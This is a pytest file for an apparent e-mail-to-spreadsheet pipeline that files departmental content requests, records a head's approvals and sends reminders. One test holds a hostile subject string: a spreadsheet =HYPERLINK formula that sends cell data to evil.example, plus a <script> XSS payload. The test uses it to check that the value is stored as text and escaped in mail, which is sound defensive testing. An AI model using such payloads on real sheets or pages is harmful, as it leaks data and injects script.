"""The content pipeline on both backends (#15): requests arriving by e-mail get their Content
row and an acknowledgement, late ones are flagged and the department told, the head's
approval is recorded with its evidence and anything else is ignored with the reason,
reminders and the planned-date flag go out once — over a real SMTP server on loopback."""

from __future__ import annotations

from datetime import date

import pytest

from sheets_sync import jobs
from sheets_sync.emailer import SmtpSettings
from sheets_sync.mail.message import Attachment
from tests.content_world import (
    CELL,
    HEAD,
    NODAL,
    NOW,
    Mailbox,
    content_rows,
    later,
    mail_log,
    tracker_for,
    type_in_content,
)
from tests.test_email import server  # noqa: F401 - the aiosmtpd fixture
from tests.trackers import records


@pytest.fixture
def world(harness, roster_file, monkeypatch):
    for name, value in harness.env.items():
        monkeypatch.setenv(name, value)
    return harness, tracker_for(harness, roster_file), Mailbox()


def run(tracker, box, when=NOW, send=True):
    return jobs.mail(tracker, box.fetch, now=when, send=SmtpSettings.from_env() if send else None)


def inbox(server):  # noqa: F811 - the fixture's value
    """Messages received, as (recipient, subject, plain, html)."""
    out = []
    for _, rcpts, content in server.messages:
        import email
        from email import policy

        msg = email.message_from_bytes(content, policy=policy.default)
        plain = msg.get_body(preferencelist=("plain",)).get_content()
        html = msg.get_body(preferencelist=("html",)).get_content()
        out.append((rcpts[0], str(msg["Subject"]), plain, html))
    return out


def test_a_request_gets_its_row_its_log_entry_and_an_acknowledgement(world, server):  # noqa: F811
    harness, tracker, box = world
    box.deliver(subject="स्वच्छ महानगर अभियान: पोस्टसाठी माहिती", sender_name="स्वच्छता नोडल",
                text="अभियानाची माहिती व फोटो सोबत जोडले आहेत.", planned=date(2026, 12, 15),
                attachments=(Attachment("फोटो.jpg", 2_500_000, "image/jpeg", "2026-12/CR-1/फोटो.jpg"),))
    result = run(tracker, box)
    rows = content_rows(harness)
    assert list(rows) == ["CR-0001"]
    row = rows["CR-0001"]
    assert row["Department"] == "SWM" and row["Status"] == "Received" and row["Kind"] == "scheme"
    assert row["Subject"] == "स्वच्छ महानगर अभियान: पोस्टसाठी माहिती"
    assert row["From"] == f"स्वच्छता नोडल <{NODAL}>" and row["Received (IST)"] == "2026-12-01 10:00"
    assert row["Planned date"] == "2026-12-15" and row["Lead time (days)"] == "14" and row["Late"] == ""
    assert row["Attachments"] == "फोटो.jpg (2.4 MB) → 2026-12/CR-1/फोटो.jpg"
    log = mail_log(harness)
    assert [(r["Filed as"], r["Mailbox key"]) for r in log] == [("request CR-0001", "INBOX/1700000000/1")]
    got = inbox(server)
    assert [(to, subject) for to, subject, _, _ in got] == [
        (NODAL, "[sheets-sync] CR-0001 received: स्वच्छ महानगर अभियान: पोस्टसाठी माहिती")]
    assert "CR-0001" in got[0][2] and "विनंती क्रमांक CR-0001" in got[0][2]
    assert result.delivery.sent == [("CR-0001 received", NODAL)]
    # Nothing new: nothing filed, nothing sent again.
    again = run(tracker, box, later(1))
    assert again.plan.filed == [] and again.delivery.sent == [] and len(server.messages) == 1
    assert len(mail_log(harness)) == 1 and list(content_rows(harness)) == ["CR-0001"]


def test_a_late_request_is_flagged_and_the_sender_and_head_told(world, server):  # noqa: F811
    harness, tracker, box = world
    box.deliver(subject="Press note: ward office inauguration", planned=date(2026, 12, 4))
    run(tracker, box)
    row = content_rows(harness)["CR-0001"]
    assert row["Lead time (days)"] == "3" and row["Late"] == "late: 3 of 7 days"
    assert row["Kind"] == "project"  # "inauguration" comes before "press note" in the schema's order
    got = inbox(server)
    assert sorted(to for to, *_ in got) == sorted([NODAL, HEAD])
    for _, subject, plain, _ in got:
        assert subject.startswith("[sheets-sync] CR-0001 received (late / उशीर)")
        assert "at least 7 days" in plain and "किमान 7 दिवस" in plain
    # The reports count it, per department.
    report = jobs.report(tracker, now=later(1), write_tab=False).report
    assert report.department("SWM").late_requests == 1 and report.total.late_requests == 1
    assert report.department("WS").late_requests == 0
    from sheets_sync.report import report_text

    text = report_text(report)
    assert "Content requests that came late (less lead time than the order asks): SWM 1" in text


def _sent_for_approval(harness, tracker, box, server, link="https://drive.example/d/CR-0001"):  # noqa: F811
    box.deliver(subject="Health camp", planned=date(2026, 12, 20))
    run(tracker, box)
    type_in_content(harness, "CR-0001", "Draft link", link)
    type_in_content(harness, "CR-0001", "Status", "Sent for approval")
    server.messages.clear()
    return run(tracker, box, later(1))


def test_sent_for_approval_asks_the_head_and_the_heads_approval_is_recorded(world, server):  # noqa: F811
    harness, tracker, box = world
    _sent_for_approval(harness, tracker, box, server)
    got = inbox(server)
    assert [(to, subject) for to, subject, _, _ in got] == [
        (HEAD, "[sheets-sync] Approval asked: CR-0001 — Health camp")]
    plain, html = got[0][2], got[0][3]
    assert "https://drive.example/d/CR-0001" in plain and "APPROVE" in plain and "मंजूर" in plain
    assert '<a href="https://drive.example/d/CR-0001">' in html
    assert content_rows(harness)["CR-0001"]["Approval asked at (IST)"] == "2026-12-01 11:00"
    answer = box.deliver(sender=HEAD, subject="Re: [sheets-sync] Approval asked: CR-0001 — Health camp",
                         codes=("CR-0001",), received=later(2),
                         text="मंजूर\n\nOn Tue, the cell wrote:\n> Please approve")
    run(tracker, box, later(2.5))
    row = content_rows(harness)["CR-0001"]
    assert row["Status"] == "Approved" and row["Approved by"] == HEAD
    assert row["Approved at (IST)"] == "2026-12-01 12:00"
    assert row["Approval message id"] == answer.message_id
    assert mail_log(harness)[-1]["Filed as"] == "approval of CR-0001"


@pytest.mark.parametrize("sender,authenticated,reason", [
    (NODAL, True, "who is not the head of SWM (head: hod.swm@mahapalika.example)"),  # tries to approve
    ("hod.ws@mahapalika.example", True, "who is not the head of SWM"),
    (HEAD, False, "not authenticated: dkim=fail (signature did not verify)"),
])
def test_an_answer_from_another_address_or_not_authenticated_is_ignored_with_the_reason(
        world, server, sender, authenticated, reason):  # noqa: F811
    harness, tracker, box = world
    _sent_for_approval(harness, tracker, box, server)
    box.deliver(sender=sender, subject="Re: CR-0001", codes=("CR-0001",), text="APPROVE",
                authenticated=authenticated, auth_reason="" if authenticated else
                "dkim=fail (signature did not verify)", received=later(2))
    run(tracker, box, later(2.5))
    row = content_rows(harness)["CR-0001"]
    assert row["Status"] == "Sent for approval" and row["Approved by"] == ""
    last = mail_log(harness)[-1]
    assert last["Filed as"] == "ignored" and reason in last["Why ignored"]


def test_changes_asked_are_filed_for_the_cell_and_a_new_draft_is_asked_again(world, server):  # noqa: F811
    harness, tracker, box = world
    _sent_for_approval(harness, tracker, box, server)
    box.deliver(sender=HEAD, subject="Re: CR-0001", codes=("CR-0001",), received=later(2),
                text="Please use the new logo and correct the date.\n> original")
    run(tracker, box, later(2.5))
    row = content_rows(harness)["CR-0001"]
    assert row["Status"] == "Changes asked"
    assert row["Head's answer"] == f"2026-12-01 12:00 {HEAD}: Please use the new logo and correct the date."
    assert mail_log(harness)[-1]["Filed as"] == "changes asked for CR-0001"
    server.messages.clear()
    type_in_content(harness, "CR-0001", "Draft link", "https://drive.example/d/CR-0001-v2")
    type_in_content(harness, "CR-0001", "Status", "Sent for approval")
    run(tracker, box, later(3))
    assert [(to, "CR-0001-v2" in plain) for to, _, plain, _ in inbox(server)] == [(HEAD, True)]


def test_an_approval_while_not_sent_for_approval_is_ignored(world, server):  # noqa: F811
    harness, tracker, box = world
    box.deliver(subject="Health camp")
    run(tracker, box)
    box.deliver(sender=HEAD, subject="Re: CR-0001", codes=("CR-0001",), text="Approved", received=later(1))
    box.deliver(sender=HEAD, subject="Re: CR-0042", codes=("CR-0042",), text="Approved", received=later(1))
    run(tracker, box, later(2))
    assert content_rows(harness)["CR-0001"]["Status"] == "Received"
    reasons = [r["Why ignored"] for r in mail_log(harness)[1:]]
    assert "whose status is 'Received', not 'Sent for approval'" in reasons[0]
    assert reasons[1] == "unknown code CR-0042: no such request in the Content tab"


def test_the_head_is_reminded_once_a_day_without_an_answer(world, server):  # noqa: F811
    harness, tracker, box = world
    _sent_for_approval(harness, tracker, box, server)
    server.messages.clear()
    run(tracker, box, later(20))
    assert server.messages == []  # 19 hours after the request: not yet
    run(tracker, box, later(26))
    got = inbox(server)
    assert [(to, subject) for to, subject, _, _ in got] == [
        (HEAD, "[sheets-sync] Reminder, approval asked: CR-0001 — Health camp")]
    assert content_rows(harness)["CR-0001"]["Reminded at (IST)"] == "2026-12-02 12:00"
    run(tracker, box, later(30))
    assert len(server.messages) == 1  # the next one a day after this one
    run(tracker, box, later(51))
    assert len(server.messages) == 2


def test_a_request_not_approved_on_its_planned_date_is_flagged_to_the_cell(world, server):  # noqa: F811
    harness, tracker, box = world
    box.deliver(subject="Water cut notice", planned=date(2026, 12, 3))
    run(tracker, box)
    server.messages.clear()
    run(tracker, box, later(24))
    assert server.messages == []
    run(tracker, box, later(46))  # 2026-12-03 08:00
    got = inbox(server)
    assert [(to, subject) for to, subject, _, _ in got] == [
        (CELL, "[sheets-sync] CR-0001 not approved on its planned date: Water cut notice")]
    assert content_rows(harness)["CR-0001"]["Flagged to the cell at (IST)"] == "2026-12-03 08:00"
    run(tracker, box, later(50))
    assert len(server.messages) == 1


def test_a_planned_date_typed_by_the_cell_always_wins(world, server):  # noqa: F811
    harness, tracker, box = world
    box.deliver(subject="Health camp", planned=date(2026, 12, 20))
    run(tracker, box)
    type_in_content(harness, "CR-0001", "Planned date", "2026-12-05")
    box.deliver(subject="Re: Health camp, new photos", codes=(), planned=date(2026, 12, 25))
    server.messages.clear()
    run(tracker, box, later(1))
    rows = content_rows(harness)
    assert rows["CR-0001"]["Planned date"] == "2026-12-05"
    assert rows["CR-0001"]["Lead time (days)"] == "4" and rows["CR-0001"]["Late"].startswith("late: 4")
    # The date the cell typed made it late: the sender and the head are told (and CR-0002 acknowledged).
    late = [(to, subject) for to, subject, _, _ in inbox(server) if "is late" in subject]
    assert sorted(late) == sorted([(NODAL, "[sheets-sync] CR-0001 is late: Health camp"),
                                   (HEAD, "[sheets-sync] CR-0001 is late: Health camp")])
    type_in_content(harness, "CR-0001", "Planned date", "next week")
    run(tracker, box, later(2))
    row = content_rows(harness)["CR-0001"]
    assert row["Planned date"] == "next week" and "type it as YYYY-MM-DD" in row["Sync notes"]


def test_hostile_text_is_text_in_the_sheet_and_escaped_in_the_mail(world, server):  # noqa: F811
    harness, tracker, box = world
    evil = '=HYPERLINK("https://evil.example/?"&A1,"click") <script>alert(1)</script>'
    box.deliver(subject=evil, sender_name="<b>x</b>")
    run(tracker, box)
    row = content_rows(harness)["CR-0001"]
    assert row["Subject"] == evil
    value, is_formula = harness.raw_cell("Content", "Request", "CR-0001", "Subject")
    assert value == evil and not is_formula
    (_, subject, plain, html), = inbox(server)
    assert evil in subject and evil in plain
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html


def test_an_unknown_sender_is_listed_not_dropped(world, server):  # noqa: F811
    harness, tracker, box = world
    box.deliver(sender="someone@gmail.example", subject="Please post my shop's ad")
    result = run(tracker, box)
    assert content_rows(harness) == {}
    (entry,) = mail_log(harness)
    assert entry["Filed as"] == "ignored" and entry["From"] == "someone@gmail.example"
    assert entry["Why ignored"].startswith("unknown sender someone@gmail.example")
    assert result.summary()["ignored"][0]["from"] == "someone@gmail.example"
    assert server.messages == []


def test_codes_are_never_given_twice_even_when_the_last_row_is_deleted(world, server):  # noqa: F811
    harness, tracker, box = world
    box.deliver(subject="One")
    box.deliver(subject="Two")
    run(tracker, box)
    assert list(content_rows(harness)) == ["CR-0001", "CR-0002"]
    harness.delete_row("Content", 3)
    box.deliver(subject="Three")
    run(tracker, box, later(1))
    assert list(content_rows(harness)) == ["CR-0001", "CR-0003"]
    log = records(harness.values("Sync State"))
    assert {r["Source"]: r["Checkpoint"] for r in log}["content codes"] == "CR-0003"


def test_more_material_quoting_the_code_is_added_to_its_request(world, server):  # noqa: F811
    harness, tracker, box = world
    box.deliver(subject="Health camp")
    run(tracker, box)
    box.deliver(subject="Re: [sheets-sync] CR-0001 received: Health camp", codes=("CR-0001",),
                text="आणखी फोटो जोडले आहेत.\n> Your e-mail was received", received=later(1),
                attachments=(Attachment("camp-2.jpg", 300_000, "image/jpeg", "2026-12/4/camp-2.jpg"),))
    run(tracker, box, later(1.5))
    rows = content_rows(harness)
    assert list(rows) == ["CR-0001"]
    assert rows["CR-0001"]["Later e-mails"] == (
        f"2026-12-01 11:00 {NODAL}: Re: [sheets-sync] CR-0001 received: Health camp — आणखी फोटो जोडले आहेत.")
    assert rows["CR-0001"]["Attachments"].endswith("camp-2.jpg (293 KB) → 2026-12/4/camp-2.jpg")
    assert mail_log(harness)[-1]["Filed as"] == "follow-up on CR-0001"
